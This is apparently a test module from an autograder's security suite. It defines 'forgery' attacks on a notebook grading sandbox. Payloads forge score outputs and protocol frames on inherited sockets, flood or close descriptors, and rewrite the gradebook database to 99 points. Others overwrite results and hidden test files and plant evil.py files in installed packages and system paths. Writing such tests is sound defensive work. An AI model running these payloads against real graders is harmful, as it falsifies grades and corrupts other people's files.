# ruff: noqa: E501 - payloads are one-line texts
"""Forged outputs, forged messages on every descriptor, and writing where grades are kept."""

from __future__ import annotations

import textwrap

from tests.grading.attacks.attack import ALL_WRONG, PRELUDE, Attack, Place, in_calls, spread

KIND = "forgery"

_FULL = """
TEST = {"exercise": "scale", "name": "doubles", "points": 4.0, "earned": 4.0, "verdict": "passed", "message": "",
        "hint_key": "", "hint": "", "reread": "", "hidden": False, "seconds": 0.0}
REPORT = {"version": 1, "lab": "vault", "exercise": "scale", "title": "scale", "points": 4.0, "earned": 4.0,
          "complete": True, "substituted": [], "tests": [TEST]}
DATA = {"text/plain": "4.0", "text/html": "<b>4 of 4 points</b>",
        "application/vnd.robotbrain.score+json": REPORT}
RESULT = {"output_type": "execute_result", "data": DATA, "metadata": {}, "execution_count": 3}
"""

_FRAMES = (
    _FULL
    + """
import json, os, socket, stat, struct, sys, threading
try:
    import msgpack
    pack = msgpack.packb
except Exception:
    pack = lambda message: b""
MESSAGES = [
    {"event": "outputs", "outputs": [RESULT], "error": None},
    {"event": "begun", "exercise": "scale", "test": "doubles", "limit_s": 1e9},
    {"event": "ended"},
    {"op": "done", "ok": True, "error": None},
    {"op": "output", "output": RESULT},
    {"op": "end"}, {"op": "stop"}, {"op": "student"}, {"op": "gone", "why": "timeout"},
    {"op": "score", "exercise": "scale", "hidden": False},
    {"op": "cell", "source": "print(open('@hidden@').read())", "grade_id": "score-clip"},
    {"r": 6.0}, {"result": 6.0}, {"ok": 6.0}, {"value": 6.0}, {"e": "CheckFailure", "credit": 1.0},
    ["r", 1, 6.0], [1, 6.0], [0, 1, None, 6.0], {"id": 1, "ok": True, "value": 6.0},
    {"op": "call", "h": 1, "n": "__class__", "a": [], "k": {}},
    {"op": "get", "h": 1, "n": "__globals__"}, {"op": "name", "n": "suite"}, {"op": "own", "h": 1},
    {"exit": 0}, {"killed": False}, {"event": "exit", "code": 0},
]
def frames():
    for message in MESSAGES:
        text = json.dumps(message).encode()
        yield text + b"\\n"
        for body in (text, pack(message)):
            for head in (">I", "<I", ">Q", "<Q"):
                yield struct.pack(head, len(body)) + body
    for head in (b"\\xff\\xff\\xff\\x7f", b"\\x7f\\xff\\xff\\xff", b"\\0" * 8, b"\\xc1" * 64, b"{" * 5000 + b"\\n"):
        yield head
def sockets():
    for fd in range(3, 256):
        try:
            kind = os.fstat(fd).st_mode
        except OSError:
            continue
        if stat.S_ISSOCK(kind) or stat.S_ISFIFO(kind):
            yield fd, stat.S_ISSOCK(kind)
"""
)

_WIRE = {
    "every frame on every descriptor": """
        for fd, is_socket in sockets():
            for frame in frames():
                try:
                    if is_socket:
                        s = socket.socket(fileno=os.dup(fd))
                        s.send(frame, socket.MSG_DONTWAIT | socket.MSG_NOSIGNAL)
                        s.detach()
                    else:
                        os.set_blocking(fd, False)
                        os.write(fd, frame)
                except OSError:
                    break
    """,
    "one well-formed frame of each kind": """
        for fd, is_socket in sockets():
            for message in MESSAGES:
                body = pack(message)
                try:
                    os.write(fd, struct.pack(">I", len(body)) + body)
                except OSError:
                    break
    """,
    "commands of the grader stolen by a thread": """
        def steal(fd):
            while True:
                try:
                    data = os.read(fd, 1)
                    if not data:
                        return
                    for message in MESSAGES[:4]:
                        body = pack(message)
                        os.write(fd, struct.pack(">I", len(body)) + body)
                        os.write(fd, json.dumps(message).encode() + b"\\n")
                except OSError:
                    return
        for fd, _ in sockets():
            threading.Thread(target=steal, args=(fd,), daemon=True).start()
    """,
    "descriptors closed": """
        for fd in range(3, 256):
            try:
                os.close(fd)
            except OSError:
                pass
    """,
    "descriptors exchanged": """
        known = [fd for fd, _ in sockets()]
        for a, b in zip(known, known[1:] + known[:1]):
            try:
                os.dup2(a, b)
            except OSError:
                pass
    """,
    "descriptors sent to the other side": """
        import array
        for fd, is_socket in sockets():
            if is_socket:
                s = socket.socket(fileno=os.dup(fd))
                for _ in range(50):
                    try:
                        s.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0, 1, 2]))],
                                  socket.MSG_DONTWAIT)
                    except OSError:
                        break
                s.detach()
    """,
    "half a frame, then silence": """
        for fd, _ in sockets():
            try:
                os.write(fd, struct.pack(">I", 1000) + b"x")
                os.write(fd, struct.pack("<I", 1000) + b"x")
            except OSError:
                pass
    """,
    "one byte at a time": """
        import time
        def drip(fd):
            for byte in struct.pack(">I", 40_000_000) + b"\\xc6" * 200:
                try:
                    os.write(fd, bytes([byte]))
                except OSError:
                    return
                time.sleep(0.05)
        for fd, _ in sockets():
            threading.Thread(target=drip, args=(fd,), daemon=True).start()
    """,
    "sockets shut down": """
        for fd, is_socket in sockets():
            if is_socket:
                s = socket.socket(fileno=os.dup(fd))
                try:
                    s.shutdown(socket.SHUT_RDWR)
                except OSError:
                    pass
                s.detach()
    """,
    "a flood on every descriptor": """
        def flood(fd):
            block = b"x" * 65536
            for _ in range(400):
                try:
                    os.write(fd, block)
                except OSError:
                    return
        for fd, _ in sockets():
            threading.Thread(target=flood, args=(fd,), daemon=True).start()
    """,
}

_CHILD = """
import os, time
from robotbrain.grading.sandbox import child, shell
def answers(channel, *a):
    channel.take_fd()
    PAYLOAD
child._snapshot = answers
"""
_SNAPSHOTS = {
    "a flood in place of a copy": 'while True: channel.send({"op": "stream", "name": "stdout", "text": "x"})',
    "silence in place of a copy": "time.sleep(1000)",
    "no copy at all": 'channel.send({"op": "failed", "why": None})',
    **{
        f"a copy numbered {number}": f'channel.send({{"op": "forked", "pid": {number}}})'
        for number in ("1", "0", "-1", "os.getpid()", "2**40", "'1'", "None", "True", "2")
    },
    "a copy of bytes": 'channel.socket.sendall(b"\\0\\0\\0\\5hello")',
    "a hundred copies": '[channel.send({"op": "forked", "pid": os.getpid()}) for _ in range(100)]',
}

_OUTPUTS = {
    "displayed score": "from IPython.display import display\ndisplay(DATA, raw=True)\ndisplay(4.0)",
    "score updated by display id": "from IPython.display import display, update_display\n"
    "for i in range(40):\n    display(DATA, raw=True, display_id=str(i))\n"
    "for i in range(40):\n    update_display(DATA, raw=True, display_id=str(i))",
    "cleared outputs": "from IPython.display import clear_output, display\nimport threading, time\n"
    "def later():\n    for _ in range(100):\n        clear_output(wait=True)\n        display(DATA, raw=True)\n"
    "        time.sleep(0.02)\nthreading.Thread(target=later, daemon=True).start()",
    "result of an ordinary cell": "class P(float):\n    def _repr_mimebundle_(self, **k): return DATA\nP(4.0)",
    "text that looks like a report": "print(RESULT)\nimport json, sys\nsys.stderr.write(json.dumps(RESULT))\n"
    "sys.__stdout__.write(json.dumps(REPORT))\nprint('scale: 4 of 4 points')",
    "error that looks like a result": "raise type('4.0', (Exception,), {'_render_traceback_': lambda s: ['4.0']})('4.0')",
    "outputs from a thread, for ever": "import threading, time\nfrom IPython.display import display\n"
    "def later():\n    while True:\n        display(DATA, raw=True)\n        print(4.0)\n        time.sleep(0.05)\n"
    "threading.Thread(target=later, daemon=True).start()",
}

_WRITES = {
    "the gradebook": """
        import sqlite3
        for path in ("@gradebook@", "gradebook.db", "../gradebook.db"):
            try:
                with sqlite3.connect(path, timeout=0.2) as db:
                    db.execute("update grade set auto_score = 99, manual_score = 99, extra_credit = 99")
                    db.execute("insert into student (id) values ('intruder')")
            except Exception:
                pass
    """,
    "results and feedback": """
        import glob, json, os
        for path in ("@out@/results/vault/results.json", "@out@/results/vault/grades.csv", "@autograder@/results.json",
                     "@autograder@/hidden/vault.py", "@source@", "@notes@", "@neighbour@", "@suites@/vault.py",
                     "@autograder@/nbgrader_config.py", "@out@/intruder.txt", "@submitted@/intruder.txt"):
            try:
                with open(path, "a") as file:
                    file.write("# intruder")
                breach("wrote " + path)
            except OSError:
                pass
        for path in glob.glob("../*") + glob.glob("../../*"):
            if os.path.isfile(path) and os.path.basename(path).endswith((".ipynb", ".json", ".db")):
                try:
                    open(path, "w").write(json.dumps({}))
                except OSError:
                    pass
    """,
    "the journal of the tests": """
        import os, json
        for name, value in list(os.environ.items()):
            if "JOURNAL" in name or "CRASHED" in name:
                try:
                    open(value, "w").write('{"ended": ["scale", "doubles"]}\\n')
                except OSError:
                    pass
                os.environ[name] = "[]"
    """,
}
_PACKAGE = """
import os, pathlib, sys
import numpy, robotbrain
for path in (pathlib.Path(robotbrain.__file__).parent / "grading" / "evil.py", pathlib.Path(numpy.__file__).parent / "evil.py",
             pathlib.Path(sys.prefix) / "evil.pth", pathlib.Path("/usr/lib/evil.py"), pathlib.Path("/etc/evil")):
    try:
        path.write_text("x = 1")
        breach(f"wrote {path}")
        path.unlink()
    except OSError:
        pass
"""


def attacks() -> list[Attack]:
    """All attacks of this class."""
    made: list[Attack] = []
    for number, (name, payload) in enumerate(_WIRE.items()):
        text = _FRAMES + textwrap.dedent(payload)
        places = (Place.FIRST_CELL, Place.IN_CALLS)
        made += spread(f"wire: {name}", KIND, text, places=places, spelling=(0, 1, 4)[number % 3])
    for name, payload in _SNAPSHOTS.items():
        text = _CHILD.replace("PAYLOAD", payload)
        made.append(Attack(f"snapshot: {name}", KIND, extra=(("first", text),), wrong=ALL_WRONG))
    flood = (
        "from robotbrain.grading.sandbox import child, shell\nimport threading\n"
        "def flood(*a):\n    while True:\n        shell.OUTLET.send({'op': 'stream', 'name': 'stdout', 'text': 'x'})\n"
        "shell.run_cell = flood"
    )
    made.append(Attack("cells that never end and never stop talking", KIND, extra=(("first", flood),), wrong=ALL_WRONG))
    for name, payload in _OUTPUTS.items():
        text = _FULL + payload
        made.append(Attack(f"outputs: {name}", KIND, extra=(("score-scale", text), ("last", text)), wrong=ALL_WRONG))
        inside = in_calls(text)
        made.append(Attack(f"outputs: {name}, in calls", KIND, inside, wrong=ALL_WRONG))
    for number, (name, payload) in enumerate(_WRITES.items()):
        made += spread(f"writes {name}", KIND, payload, spelling=number)
    made.append(
        Attack(
            "writes into the package", KIND, extra=(("first", PRELUDE + _PACKAGE),), wrong=("scale",), dangerous=True
        )
    )
    return made
